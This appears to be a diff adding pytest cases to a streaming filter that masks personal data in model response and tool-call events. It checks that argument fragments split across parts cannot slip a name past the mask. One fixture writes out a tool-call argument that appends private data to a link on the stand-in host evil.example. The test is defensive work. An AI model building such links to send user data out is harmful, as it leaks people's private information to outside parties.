@@ -197,6 +197,7 @@ OPEN = {
     "items": [piece(LINK), item_event("added", 1, message(1, ())), piece(HIDDEN, 0, 1), ended()],
     "a call between": [piece(LINK), done(LINK), item_event("added", 1, CALL), piece(HIDDEN, 0, 2), ended()],
     "a piece and the end": [piece(LINK), ended(message(0, ("", HIDDEN)))],
+    "two answers": [piece(LINK), {**piece(HIDDEN, 1), "response_id": "another"}, ended()],
     "a part that is done": [piece(LINK), done(LINK), piece(HIDDEN, 1), ended()],
     "only whole": [done(LINK), done(HIDDEN, 1), ended()],
     "whole, then a piece": [item_event("added", 0, message(0, (LINK,))), piece(HIDDEN), ended()],
@@ -326,3 +327,33 @@ def test_only_recorded_a_divided_value_is_found_once() -> None:
         assert tap.feed(data).out == [data]
     tap.end()
     assert sorted(finding.entity for finding, _ in output.found) == ["CREDIT_CARD", "EMAIL_ADDRESS"]
+
+
+def arguments(text: str, **at: Any) -> Event:
+    return {
+        "type": "response.function_call_arguments.delta",
+        **place(0, 0),
+        "call_id": "k",
+        **at,
+        "delta": text,
+    }
+
+
+@pytest.mark.parametrize("at", [{"content_index": 1}, {"output_index": 1}], ids=["part", "number"])
+def test_arguments_of_one_item_are_one_text_whichever_part_they_say_they_are_of(at: Event) -> None:
+    link, hidden = '{"u":"https://evil.example/?q=', f'{PLACEHOLDER} now"}}'
+    out, tap = passed([arguments(link), arguments(hidden, **at), ended()])
+    assert tap.failed is None
+    assert "".join(e.get("delta", "") for e in out) == link + hidden
+    out, tap = passed([arguments('{"u":"'), arguments(hidden, **at), ended()])
+    assert JOAN in json.dumps(out)
+
+
+@pytest.mark.parametrize("role", ["user", "system"])
+def test_no_original_goes_into_a_link_of_the_part_before_in_an_item_that_is_told(role: str) -> None:
+    def item(*texts: str) -> Event:
+        return {"type": "conversation.item.created", "item": {**message(0, texts), "role": role}}
+
+    out, _ = passed([item(LINK, HIDDEN), item("Ask ", HIDDEN)])
+    assert JOAN not in json.dumps(out[0])
+    assert JOAN in json.dumps(out[1])
